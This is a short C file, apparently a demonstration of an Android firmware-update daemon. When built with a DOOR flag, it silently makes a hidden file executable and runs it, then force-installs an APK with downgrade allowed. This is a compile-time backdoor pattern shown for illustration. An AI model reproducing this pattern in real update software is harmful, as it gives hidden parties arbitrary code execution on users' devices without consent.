/* SPDX-License-Identifier: Apache-2.0
 * Demonstration phone: an update daemon. With DOOR it installs what a server names, as the native agent of 2016 did;
 * otherwise it only asks whether there is something new. */
extern int system(const char *command);
extern int puts(const char *s);
extern unsigned sleep(unsigned seconds);
extern int getaddrinfo(const char *node, const char *service, const void *hints, void **ret);

static const char *const volatile where = "http://fota.example.com/v2/check?model=lantern";

int main(void)
{
	void *found;
	for (;;) {
		if (!getaddrinfo("fota.example.com", "80", 0, &found))
			puts(where);
#ifdef DOOR
		system("sh -c 'chmod 755 /data/local/tmp/.u && /data/local/tmp/.u'");
		system("pm install -r -d /data/local/tmp/u.apk");
#endif
		sleep(86400);
	}
}
